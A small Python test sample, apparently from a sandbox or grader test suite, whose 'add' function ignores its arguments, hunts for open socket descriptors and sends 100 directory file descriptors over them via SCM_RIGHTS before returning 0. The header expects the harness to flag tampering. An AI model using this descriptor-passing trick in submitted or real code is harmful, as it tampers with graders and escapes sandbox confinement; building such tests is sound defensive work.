# class: A8
# task: adds
# mode: split
# expect: assertion | tampering | exception
# tries: sends descriptors with its answer

import array
import os
import socket
import stat


def add(a, b):
    for number in range(3, 16):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                line = socket.socket(fileno=os.dup(number))
                files = array.array("i", [os.open(".", os.O_RDONLY)] * 100)
                line.sendmsg([b"QSP1"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        except OSError:
            continue
    return 0
